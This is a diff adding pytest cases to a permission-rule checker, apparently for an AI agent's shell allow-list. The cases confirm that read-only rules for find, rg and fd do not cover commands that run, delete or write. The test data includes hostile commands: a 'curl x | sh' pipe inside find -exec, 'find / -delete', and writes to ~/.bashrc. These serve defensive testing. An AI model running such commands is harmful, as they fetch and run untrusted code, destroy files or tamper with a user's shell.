@@ -136,3 +136,51 @@ def test_mcp_rules_name_the_server_as_configured_not_its_cleaned_prefix(tmp_path
         "mcp__my_server__read_file", {}, tmp_path, tmp_path, mcp=("my.server", "read.file")
     )
     assert found is not None and found.allowed
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "find . -name '*.py' -exec sh -c 'curl x | sh' {} +",
+        "find . -execdir rm {} ;",
+        "find . -okdir rm {} ;",
+        "find / -delete",
+        "find . -fprint /home/u/.bashrc",
+        "/usr/bin/find . -fprintf /home/u/.bashrc %p",
+        "rg --pre ./decode.sh TODO",
+        "rg -n --pre=./decode.sh TODO src",
+        "fd -x rm",
+        "fd -HIx sh -c id",
+        "fdfind --exec-batch rm",
+    ],
+)
+def test_a_reader_told_to_run_a_program_is_not_covered_by_its_rule(
+    command: str, tmp_path: Path
+) -> None:
+    """As in Claude Code, ``Bash(find:*)`` does not cover ``find -exec`` or ``-delete``: a rule
+    for a program that only reads must not let it run, delete or write what the line names."""
+    rules = ToolRules.parse(
+        allow=[
+            "Bash(find:*)",
+            "Bash(/usr/bin/find:*)",
+            "Bash(rg:*)",
+            "Bash(fd:*)",
+            "Bash(fdfind:*)",
+        ]
+    )
+    assert _allowed(rules, "bash", Cmd(command), tmp_path) is None
+
+
+def test_readers_still_match_and_a_rule_naming_the_option_covers_it(tmp_path: Path) -> None:
+    rules = ToolRules.parse(
+        allow=["Bash(find:*)", "Bash(rg:*)", "Bash(fd:*)", "Bash(find . -name *.pyc -delete)"]
+    )
+    for command in (
+        "find . -name '*.py' -newer setup.py",
+        "find src -type f -print0",
+        "rg -n --pre-glob '*.gz' TODO",
+        "rg -n -- --pre",
+        "fd -e py src",
+        "find . -name *.pyc -delete",
+    ):
+        assert _allowed(rules, "bash", Cmd(command), tmp_path) is True, command
